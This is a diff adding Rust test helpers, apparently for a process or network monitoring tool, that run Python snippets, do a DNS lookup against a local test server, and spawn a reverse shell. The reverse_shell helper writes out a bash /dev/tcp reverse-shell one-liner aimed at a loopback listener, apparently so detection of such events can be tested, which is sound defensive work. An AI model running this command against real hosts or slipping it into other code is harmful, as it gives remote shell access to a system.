@@ -236,6 +236,50 @@ pub fn dns_server_once() -> std::thread::JoinHandle<()> {
     })
 }
 
+/// Runs python3 with `code`, which must succeed; returns its pid.
+pub fn run_python(code: &str) -> u32 {
+    let mut child = Command::new("/usr/bin/python3")
+        .args(["-c", code])
+        .stdin(Stdio::null())
+        .spawn()
+        .expect("python3");
+    let pid = child.id();
+    let status = child.wait().expect("wait for python3");
+    assert!(status.success(), "python snippet failed ({status}): {code}");
+    pid
+}
+
+/// A process that looks `name` up at the test's DNS server on 127.0.0.77 (started for it); returns
+/// the process's pid once the answer came.
+pub fn dns_lookup(name: &str) -> u32 {
+    let server = dns_server_once();
+    let pid = run_python(&python_dns_query(name));
+    server.join().expect("DNS server thread");
+    pid
+}
+
+/// A reverse shell: bash with a TCP socket to `listener` (loopback) on stdin, stdout and stderr,
+/// running an interactive shell, which the listener's side tells to exit. `mark` ends its command
+/// line (as a comment) so that events can be matched to it. Returns the shell's pid.
+pub fn reverse_shell(listener: &std::net::TcpListener, mark: &str) -> u32 {
+    use std::io::{Read, Write};
+    let port = listener.local_addr().expect("listener address").port();
+    let mut shell = Command::new("bash")
+        .args([
+            "-c",
+            &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {mark}"),
+        ])
+        .stdin(Stdio::null())
+        .spawn()
+        .expect("bash");
+    let (mut conn, _) = listener.accept().expect("the shell connects");
+    conn.write_all(b"exit\n").expect("tell the shell to exit");
+    let _ = conn.read_to_end(&mut Vec::new());
+    let pid = shell.id();
+    shell.wait().expect("wait for the shell");
+    pid
+}
+
 /// Python that sends one A query for `name` to 127.0.0.77:53 and waits for the answer.
 pub fn python_dns_query(name: &str) -> String {
     let labels: Vec<String> = name.split('.').map(|l| format!("b'{l}'")).collect();
